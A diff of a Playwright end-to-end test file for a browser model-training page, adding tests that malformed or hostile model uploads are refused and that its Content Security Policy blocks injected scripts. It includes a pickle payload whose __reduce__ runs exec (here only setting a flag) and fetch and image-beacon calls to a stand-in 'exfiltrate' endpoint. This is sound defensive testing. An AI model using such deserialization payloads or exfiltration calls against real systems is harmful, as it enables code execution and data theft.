@@ -3,12 +3,22 @@
 The tests share one page (module fixture `app`) and run in file order: the training test
 leaves a trained model that the stop, reload and file tests build on.
 """
+import builtins
+import io
+import json
 import os
+import pickle
+import sys
+import zipfile
 
+import numpy as np
 import pytest
 from playwright.sync_api import expect
 
-from e2e_support import TRAIN_TIMEOUT_MS
+from e2e_support import ROOT, TRAIN_TIMEOUT_MS, main_thread_load
+
+sys.path.insert(0, str(ROOT))
+import pycnn  # noqa: E402  (the checkout's library, to craft model files)
 
 # 1 epoch on 2,000 digits; batch 16 and lr 0.01 reach ~88-90% held-out in CPython over seeds
 QUICK_RUN = {"epochs-input": "1", "train-size-input": "2000", "batch-size-input": "16", "learning-rate-input": "0.01"}
@@ -117,25 +127,21 @@ def test_train_one_epoch_on_2000_digits(app):
 
 
 def long_tasks(app, window):
-    """Long tasks (Long Tasks API) and script-attributed long animation frames inside window."""
-    started, ended = window
+    """Long tasks (Long Tasks API) and long animation frames in which page scripts ran, inside window."""
     probe = app.probe()
     assert "longTaskError" not in probe
-    overlaps = lambda e: e["start"] + e["duration"] >= started and e["start"] <= ended  # noqa: E731
-    tasks = [round(t["duration"]) for t in probe["longTasks"] if overlaps(t)]
-    frames = [f for f in probe["frames"] if overlaps(f) and f["blocking"] > 0]
-    return tasks, frames
+    return main_thread_load(probe, *window)
 
 
 def test_longest_main_thread_task_while_training_is_under_50_ms(app):
     """Measured on the training run above. The Long Tasks API times tasks by the wall clock, so when
     other processes starve the 2 cores a task can exceed 50 ms with no page script running long; then
-    (and only then) one more run is measured. Page scripts that block 50 ms fail at once."""
+    (and only then) one more run is measured. Page scripts that run 50 ms in one frame fail at once."""
     windows = [app.training_window]
     for attempt in range(3):
         tasks, frames = long_tasks(app, windows[-1])
         print(f"\nrun {attempt + 1}: long tasks {tasks or 'none'}; blocking animation frames {frames or 'none'}")
-        assert all(f["blocking"] < LONG_TASK_LIMIT_MS for f in frames), frames
+        assert all(f["scriptMs"] < LONG_TASK_LIMIT_MS for f in frames), frames
         if max(tasks, default=0) < LONG_TASK_LIMIT_MS:
             return
         fill_settings(app, {"epochs-input": "1", "train-size-input": "2000", "batch-size-input": "16", "learning-rate-input": "0.0005"})
@@ -209,23 +215,124 @@ def test_download_then_load_round_trips(app, tmp_path):
     assert "model.npz" in app.by_id("model-state").inner_text()
 
 
-@pytest.mark.parametrize("name, payload", [
-    ("random.npz", os.urandom(4096)),
-    ("empty.npz", b""),
-    ("text.npz", b"this is not a model\n" * 50),
-    ("fake-zip.npz", b"PK\x03\x04" + b"\x00" * 200),
-    ("huge.npz", b"\x00" * (21 * 1024 * 1024)),  # refused by size before it is read
-])
-def test_corrupt_model_file_is_refused_and_the_model_kept(app, name, payload):
+# ---- model files crafted like tests/test_serialize.py's, for the page ----
+def _members(data):
+    with zipfile.ZipFile(io.BytesIO(data)) as zf:
+        return {info.filename: zf.read(info) for info in zf.infolist()}
+
+
+def _rezip(files):
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
+        for name, content in files.items():
+            zf.writestr(name, content)
+    return buf.getvalue()
+
+
+def _npy(array, allow_pickle=False):
+    buf = io.BytesIO()
+    np.lib.format.write_array(buf, np.asarray(array), allow_pickle=allow_pickle)
+    return buf.getvalue()
+
+
+def _npy_header(header, data=b""):
+    text = header.encode("latin1")
+    text += b" " * (64 - (10 + len(text) + 1) % 64) + b"\n"
+    return b"\x93NUMPY\x01\x00" + len(text).to_bytes(2, "little") + text + data
+
+
+GOOD_MODEL = pycnn.seed_model(seed=0).to_bytes()
+
+
+def _with_config(change):
+    files = _members(GOOD_MODEL)
+    config = json.loads(files["config.json"])
+    change(config)
+    files["config.json"] = json.dumps(config).encode()
+    return _rezip(files)
+
+
+def _with_member(name, content):
+    return _rezip({**_members(GOOD_MODEL), name: content})
+
+
+def _bad_weights(name, shape, value):
+    array = np.ones(shape, np.float32)
+    array.flat[3] = value
+    return _with_member(name, _npy(array))
+
+
+# Unpickling runs this code: in Pyodide it sets a global of the worker, in CPython a builtin.
+PWN_CODE = ("import builtins; builtins.PYCNN_PWNED = True\n"
+            "try:\n    import js; js.pycnn_pwned = True\nexcept ImportError:\n    pass")
+
+
+class Pwn:
+    def __reduce__(self):
+        return exec, (PWN_CODE,)
+
+
+def _pickled_weights():
+    payload = np.empty(10, dtype=object)
+    payload[:] = [Pwn()] * 10
+    return _with_member("0.b.npy", _npy(payload, allow_pickle=True))
+
+
+OTHER_ARCHITECTURE = pycnn.Sequential([pycnn.Conv2D(1, 4, 3), pycnn.ReLU(), pycnn.MaxPool2D(2), pycnn.Flatten(),
+                                       pycnn.Dense(4 * 13 * 13, 3)], seed=0, input_shape=(1, 28, 28)).to_bytes()
+BAD_FILES = [  # (file name, content or a size in bytes for a sparse file on disk, what the message says)
+    ("random.npz", os.urandom(4096), "not a pycnn model file"),
+    ("empty.npz", b"", "the file is empty"),
+    ("text.npz", b"this is not a model\n" * 50, "not a pycnn model file"),
+    ("fake-zip.npz", b"PK\x03\x04" + b"\x00" * 200, "not a valid pycnn model file"),
+    ("version-2.npz", _with_config(lambda c: c.update(version=2)), "unsupported model format version 2"),
+    ("wrong-layer-shapes.npz", _with_config(lambda c: c["layers"][4]["config"].update(in_features=1000)),
+     "Dense expects input of shape (1000,), got (1690,)"),
+    ("wrong-weight-shape.npz", _with_member("4.W.npy", _npy(np.zeros((10, 1690), np.float32))),
+     "4.W.npy: shape must be (1690, 10), got (10, 1690)"),
+    ("other-architecture.npz", OTHER_ARCHITECTURE, "does not fit the page"),
+    ("nan-weights.npz", _bad_weights("0.W.npy", (10, 1, 3, 3), np.nan), "0.W.npy: weights contain NaN or infinity"),
+    ("inf-weights.npz", _bad_weights("4.b.npy", (10,), np.inf), "4.b.npy: weights contain NaN or infinity"),
+    ("billion-elements.npz",
+     _with_member("4.W.npy", _npy_header("{'descr': '<f4', 'fortran_order': False, 'shape': (1000000000,), }", bytes(1000))),
+     "4.W.npy: shape must be (1690, 10), got (1000000000,)"),
+    ("pickled-weights.npz", _pickled_weights(), "0.b.npy: dtype must be float32"),
+    ("model.pkl", pickle.dumps(Pwn()), "not a pycnn model file"),
+    ("21mb.npz", 21 * 2 ** 20, "the file is 22 MB; a pycnn model is well under 1 MB"),  # over the page's 20 MB limit
+    ("200mb.npz", 200 * 2 ** 20, "the file is 210 MB; a pycnn model is well under 1 MB"),
+]
+
+
+def test_the_pickle_payload_runs_when_unpickled():
+    """Control for the pickle rows below: this payload does run code when something unpickles it."""
+    try:
+        pickle.loads(pickle.dumps(Pwn()))
+        assert builtins.PYCNN_PWNED is True
+    finally:
+        builtins.__dict__.pop("PYCNN_PWNED", None)
+
+
+@pytest.mark.parametrize("name, payload, reason", BAD_FILES, ids=[name for name, _, _ in BAD_FILES])
+def test_bad_model_file_is_refused_with_a_message_and_the_model_kept(app, name, payload, reason, tmp_path):
     accuracy = app.attr("accuracy", "data-val-accuracy")
     model = app.page.evaluate("document.body.dataset.model")
-    app.by_id("load-model").set_input_files(files=[{"name": name, "mimeType": "application/octet-stream", "buffer": payload}])
+    if isinstance(payload, int):
+        path = tmp_path / name
+        with open(path, "wb") as f:
+            f.truncate(payload)  # sparse: costs no disk; the page refuses it by its size
+        app.by_id("load-model").set_input_files(str(path))
+    else:
+        app.by_id("load-model").set_input_files(files=[{"name": name, "mimeType": "application/octet-stream", "buffer": payload}])
     message = app.by_id("message")
     app.page.wait_for_selector('[data-testid="message"][data-kind="error"]', state="visible", timeout=30_000)
-    assert name in message.inner_text() and "unchanged" in message.inner_text()
+    text = message.inner_text()
+    assert text.startswith(f"Could not load {name}: ") and text.rstrip("×").strip().endswith("Your current model is unchanged.")
+    assert reason in text
     assert app.attr("accuracy", "data-val-accuracy") == accuracy
     assert app.page.evaluate("document.body.dataset.model") == model
     assert app.page.evaluate("document.body.dataset.state") == "ready"
+    # no code ran in the worker (the pickle rows would have set this global when unpickled)
+    assert [w.evaluate("() => self.pycnn_pwned === undefined") for w in app.page.workers] == [True]
     message.locator(".dismiss").click()
 
 
@@ -285,8 +392,51 @@ def test_reload_mid_epoch_restores_the_last_completed_epoch(app):
     assert float(app.attr("accuracy", "data-val-accuracy")) == pytest.approx(float(saved_accuracy), abs=1e-9)
 
 
-def test_no_console_errors_after_all_of_the_above(app):
+def test_no_console_errors_and_no_request_off_the_origin_after_all_of_the_above(app):
     assert app.log.page_errors == []
     # a refused file is reported on the page, not as a console error
     assert app.log.console_errors == []
     assert app.probe()["csp"] == []
+    # every request of the session (page and worker: boot, training, files, reloads) went to the origin
+    foreign = [u for u in app.log.requests if not u.startswith(app.url) and not u.startswith(("data:", "blob:"))]
+    assert len(app.log.requests) > 20 and foreign == []
+
+
+def test_csp_is_in_force_in_the_page_and_the_worker(app):
+    """Runs last: it provokes violations on purpose. The meta tag and build.py's header each enforce
+    the policy, so one blocked action can be reported once per policy."""
+    page = app.page
+    header = page.evaluate("fetch(location.href).then(r => r.headers.get('content-security-policy'))")
+    meta = page.get_attribute('meta[http-equiv="Content-Security-Policy"]', "content")
+    for policy in (header, meta):
+        assert "default-src 'self'" in policy and "script-src 'self' 'wasm-unsafe-eval'" in policy
+        assert "'unsafe-inline'" not in policy and "'unsafe-eval'" not in policy
+    outcome = page.evaluate("""async () => {
+      const s = document.createElement('script');
+      s.textContent = 'window.__inlineRan = true';
+      document.head.appendChild(s);  // an injected inline script
+      const attr = document.createElement('div');
+      attr.setAttribute('onclick', 'window.__handlerRan = true');
+      document.body.appendChild(attr);
+      attr.click();  // an inline event handler
+      let fetched;
+      try { await fetch('http://127.0.0.2:9/exfiltrate'); fetched = 'sent'; } catch (e) { fetched = 'blocked'; }
+      const img = new Image();
+      img.src = 'http://127.0.0.2:9/pixel.png';  // a beacon as an image
+      await new Promise((r) => setTimeout(r, 300));
+      attr.remove(); img.remove?.(); s.remove();
+      return { inline: window.__inlineRan === true, handler: window.__handlerRan === true, fetched };
+    }""")
+    assert outcome == {"inline": False, "handler": False, "fetched": "blocked"}
+    directives = {v.split(" ")[0] for v in app.probe()["csp"]}
+    assert {"script-src-elem", "script-src-attr", "connect-src", "img-src"} <= directives, app.probe()["csp"]
+    # the worker runs under the header's policy: it cannot reach another origin either
+    worker = page.workers[0]
+    blocked = worker.evaluate("""async () => {
+      const seen = [];
+      self.addEventListener('securitypolicyviolation', (e) => seen.push(e.violatedDirective));
+      try { await fetch('http://127.0.0.2:9/exfiltrate'); return ['sent', seen]; }
+      catch (e) { await new Promise((r) => setTimeout(r, 100)); return ['blocked', seen]; }
+    }""")
+    assert blocked[0] == "blocked" and "connect-src" in blocked[1]
+    print(f"\nCSP violations recorded in the page: {app.probe()['csp']}; in the worker: {blocked[1]}")
